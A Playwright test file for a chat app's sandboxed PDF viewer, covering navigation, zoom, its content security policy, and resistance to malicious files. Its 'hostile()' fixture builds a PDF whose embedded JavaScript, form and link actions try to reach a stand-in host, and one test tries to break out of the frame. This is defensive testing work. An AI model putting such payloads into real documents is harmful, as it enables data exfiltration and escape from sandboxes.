import type { FrameLocator, Locator } from '@playwright/test';
import { violationsOf } from '../support/axe.ts';
import { drop, given, meet, saveButton, saves, sendTray } from '../support/files.ts';
import { expect, test } from '../support/fixtures.ts';
import type { Person } from '../support/page.ts';
import { box, pdf, text } from '../support/pdf.ts';

const PDF = 'application/pdf';

/** Sends each file by itself into one conversation of two; the second person is the one who reads. */
async function sent(person: (name: string) => Promise<Person>, files: Readonly<Record<string, Buffer>>) {
  const [alice, bob] = await meet(person);
  await drop(
    alice,
    Object.entries(files).map(([name, bytes]) => given(name, PDF, bytes)),
  );
  await sendTray(alice, 'to read');
  await bob.reads('to read');
  return bob;
}

const frameOf = ({ page }: Person): FrameLocator => page.frameLocator('iframe.pdf-frame');
const viewer = ({ page }: Person): Locator => page.getByRole('dialog', { name: /^PDF viewer/ });

async function open(bob: Person, name: string): Promise<Locator> {
  await bob.messages.getByRole('button', { name: `Open ${name}` }).click();
  await expect(viewer(bob)).toBeVisible();
  return viewer(bob);
}

/** The colour of the first drawn page at a place, in shares of its width and height. */
const colorAt = (bob: Person, x: number, y: number) =>
  frameOf(bob)
    .locator('.page canvas')
    .first()
    .evaluate(
      (canvas, [across, down]) => {
        if (!(canvas instanceof HTMLCanvasElement)) throw new Error('no canvas');
        const [left, top] = [canvas.width * across, canvas.height * down];
        return [...(canvas.getContext('2d')?.getImageData(left, top, 1, 1).data ?? [])];
      },
      [x, y] as const,
    );

test('a PDF is read, turned, zoomed and closed by keys, in a frame without an origin', async ({
  person,
  server,
  watch,
}) => {
  watch.allow(/Unsafe attempt to initiate navigation|Blocked opening/); // what this test tries from inside
  const pages = Array.from({ length: 12 }, (_, index) => ({
    draws: `${box('0.8 0.1 0.1', 0, 742, 595, 100)} ${text(`Chapter ${index + 1} of the harbour rules`)}`,
  }));
  // Much of it is of no use for its pages, and is never fetched.
  const ballast = `<< /Length 9000000 >>\nstream\n${'x'.repeat(9_000_000)}\nendstream`;
  const bob = await sent(person, { 'rules.pdf': pdf(pages, { objects: ['null', ballast] }) });
  let fetched = 0;
  bob.page.on('response', (response) => {
    if (response.status() === 206) fetched += Number(response.headers()['content-length'] ?? 0);
  });
  const shown = await open(bob, 'rules.pdf');
  const frame = frameOf(bob);
  await expect(frame.getByText('Chapter 1 of the harbour rules')).toBeVisible({ timeout: 30_000 });
  await expect(shown.getByText('1 of 12', { exact: true })).toBeVisible();
  expect(await colorAt(bob, 0.5, 0.05)).toEqual([204, 26, 26, 255]);
  expect(await colorAt(bob, 0.5, 0.5)).toEqual([255, 255, 255, 255]);

  // The keys of the picture viewer, with the focus in the frame; few pages are drawn at a time.
  await expect(bob.page.locator('iframe.pdf-frame')).toBeFocused();
  const width = async () => (await frame.locator('.page').first().boundingBox())?.width ?? 0;
  const before = await width();
  await bob.page.keyboard.press('+');
  await expect.poll(width).toBeCloseTo(before * 1.25, -1);
  await bob.page.keyboard.press('0');
  await expect.poll(width).toBeCloseTo(before, -1);
  await bob.page.keyboard.press('PageDown');
  await expect(shown.getByText('2 of 12', { exact: true })).toBeVisible();
  await bob.page.keyboard.press('End');
  await expect(shown.getByText('12 of 12', { exact: true })).toBeVisible();
  await expect(frame.getByText('Chapter 12 of the harbour rules')).toBeVisible();
  expect(await frame.locator('.page canvas').count()).toBeLessThanOrEqual(8);

  expect(fetched).toBeGreaterThan(0);
  expect(fetched).toBeLessThan(4_000_000);
  expect(await violationsOf(bob.page, 'PDF viewer')).toEqual([]);

  // By its buttons.
  await shown.getByRole('button', { name: 'Previous page' }).click();
  await expect(shown.getByText('11 of 12', { exact: true })).toBeVisible();
  await shown.getByRole('button', { name: 'Fit to width' }).click();
  await expect.poll(width).toBeGreaterThan(1_000);
  await bob.page.keyboard.press('Home');
  await expect(shown.getByText('1 of 12', { exact: true })).toBeVisible();
  const saved = await saves(bob, saveButton(shown, 'rules.pdf'));
  expect(saved.suggestedFilename()).toBe('rules.pdf');

  // No origin, no storage, no network, no way up.
  const tried = await frame.locator('body').evaluate(async (_body, address) => {
    const attempt = async (run: () => unknown) => {
      try {
        await run();
        return 'allowed';
      } catch (error) {
        return error instanceof Error ? error.name : 'Error';
      }
    };
    return {
      origin: self.origin,
      storage: await attempt(() => localStorage.length),
      page: await attempt(() => parent.document.title),
      top: await attempt(() => {
        if (top) top.location.href = address;
      }),
      window: window.open(address),
    };
  }, server.origin);
  expect(tried).toEqual({
    origin: 'null',
    storage: 'SecurityError',
    page: 'SecurityError',
    top: 'SecurityError',
    window: null,
  });

  await bob.page.locator('iframe.pdf-frame').focus();
  await bob.page.keyboard.press('Escape');
  await expect(viewer(bob)).toBeHidden();
  await expect(bob.messages.getByRole('button', { name: 'Open rules.pdf' })).toBeFocused();
});

test('[attack 31] the frame of PDF files has a policy of its own', async ({ server }) => {
  for (const name of ['frame.html', 'frame.js', 'frame.css']) {
    const { headers, status } = await fetch(`${server.origin}/pdf/${name}`);
    expect(status).toBe(200);
    const policy = headers.get('content-security-policy') ?? '';
    const directives = new Map(
      policy.split(';').map((part) => {
        const [directive = '', ...values] = part.trim().split(/\s+/);
        return [directive, values.join(' ')] as const;
      }),
    );
    expect(directives.get('default-src')).toBe("'none'");
    expect(directives.get('sandbox')).toBe('allow-scripts');
    expect(directives.get('frame-ancestors')).toBe("'self'");
    expect(directives.get('script-src')).toBe("'self' 'wasm-unsafe-eval'");
    expect(directives.get('worker-src')).toBe('blob:');
    expect(directives.get('require-trusted-types-for')).toBe("'script'");
    for (const none of ['connect-src', 'img-src', 'font-src', 'frame-src', 'media-src'])
      expect(directives.has(none), none).toBe(false);
    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
    expect(headers.get('cross-origin-embedder-policy')).toBe('require-corp');
    expect(headers.get('permissions-policy')).toContain('camera=()');
  }
});

test('[attack 31] a hostile PDF runs nothing, asks for nothing, leads nowhere and can always be closed', async ({
  person,
  watch,
}) => {
  const half = pdf([{ draws: text('never whole') }]);
  const endless =
    '<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 100 0 R >> >> /Length 11 >>\nstream\n/X Do /X Do\nendstream';
  const bob = await sent(person, {
    'hostile.pdf': hostile(),
    'broken.pdf': Buffer.from('%PDF-1.7\nthis is no PDF at all\n'.repeat(50)),
    'half.pdf': half.subarray(0, 300),
    'locked.pdf': pdf([{ draws: text('secret') }], { locked: true }),
    'huge.pdf': pdf([
      { draws: box('0.1 0.1 0.8', 0, 0, 9e6, 9e6), width: 9e6, height: 9e6 },
      { draws: text('small', 0, 0, 1), width: 1, height: 1 },
    ]),
    'endless.pdf': pdf([{ draws: '/X Do /X Do' }], { objects: [endless] }),
  });
  const frame = frameOf(bob);
  const close = async (shown: Locator) => {
    await shown.getByRole('button', { name: 'Close' }).click();
    await expect(viewer(bob)).toBeHidden();
  };

  await test.step('actions, links, forms and scripts', async () => {
    const address = bob.page.url();
    const shown = await open(bob, 'hostile.pdf');
    await expect(frame.getByText('Press anywhere')).toBeVisible({ timeout: 30_000 });
    await frame.locator('.page').click({ position: { x: 200, y: 100 } });
    await bob.page.keyboard.press('Enter');
    expect(await frame.locator('a, input, button, iframe, embed, object, script:not([src])').count()).toBe(0);
    for (const one of bob.page.frames()) expect(await one.evaluate(() => 'taken' in globalThis)).toBe(false);
    expect(bob.page.url()).toBe(address);
    expect(bob.page.context().pages()).toHaveLength(1);
    // Among them: any request to another address than the server's, any broken policy.
    expect(watch.problems).toEqual([]);
    await close(shown);
  });

  await test.step('what cannot be shown says so, with a way to save it', async () => {
    for (const [name, words] of [
      ['broken.pdf', /damaged/],
      ['half.pdf', /damaged/],
      ['locked.pdf', /password/],
    ] as const) {
      const shown = await open(bob, name);
      await expect(shown.getByRole('alert')).toContainText(words, { timeout: 30_000 });
      await expect(shown.getByRole('alert').getByRole('button', { name: 'Save' })).toBeVisible();
      await bob.page.keyboard.press('Escape');
      await expect(viewer(bob)).toBeHidden();
    }
  });

  await test.step('a page of kilometres is drawn with as many pixels as any', async () => {
    const shown = await open(bob, 'huge.pdf');
    await expect(shown.getByText('1 of 2', { exact: true })).toBeVisible({ timeout: 30_000 });
    await expect(frame.locator('.page canvas').first()).toBeVisible();
    expect(await colorAt(bob, 0.9, 0.1)).toEqual([26, 26, 204, 255]);
    for (let times = 0; times < 4; times += 1) await shown.getByRole('button', { name: 'Zoom in' }).click();
    const canvas = frame.locator('.page canvas').first();
    const area = () =>
      canvas.evaluate((one) => (one instanceof HTMLCanvasElement ? one.width * one.height : 0));
    await expect.poll(area).toBeGreaterThan(1_000_000);
    expect(await area()).toBeLessThanOrEqual(16 * 1024 * 1024);
    await close(shown);
  });

  await test.step('one that draws itself for ever is closed like any other', async () => {
    await close(await open(bob, 'endless.pdf'));
    await bob.send('still here');
    await bob.reads('still here');
  });
});

/** One file with every way out that the format has. */
function hostile(): Buffer {
  const away = 'http://192.0.2.1/taken';
  const script = `<< /S /JavaScript /JS (globalThis.taken = true; app.launchURL('${away}'); this.submitForm('${away}')) >>`;
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${away}) >> >>`;
  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /A ${script} /AA << /E ${script} /U ${script} >> >>`;
  const remote = `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${away}) >> /Length 0 >>\nstream\n\nendstream`;
  const xfa = `<template><script contentType="application/x-javascript">globalThis.taken = true</script><image href="${away}"/></template>`;
  const names = `/Names << /JavaScript << /Names [(a) ${script}] >> >> /URI << /Base (${away}) >>`;
  return pdf(
    [
      {
        draws: `${text('Press anywhere')} /X Do`,
        more: `/Annots [${link} 101 0 R] /AA << /O ${script} >>`,
      },
    ],
    {
      catalog: `/OpenAction ${script} /AA << /WC ${script} >> /AcroForm << /Fields [101 0 R] /XFA [(template) 102 0 R] >> ${names}`,
      objects: [remote, button, `<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`],
    },
  );
}
